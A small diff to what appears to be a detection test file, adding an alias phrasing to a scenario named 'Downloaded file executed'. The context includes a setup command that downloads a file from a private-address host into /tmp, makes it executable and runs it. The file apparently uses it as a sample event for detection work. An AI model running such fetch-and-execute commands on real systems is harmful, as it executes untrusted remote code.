@@ -1,5 +1,6 @@
 ## Downloaded file executed
 #also Executable run from a scratch folder
+#also File in a scratch folder made executable by hand
 #also Program in a scratch folder made executable, then run
 #setup web
 curl -s -o /tmp/x http://10.9.8.7:8000/true; chmod +x /tmp/x; /tmp/x
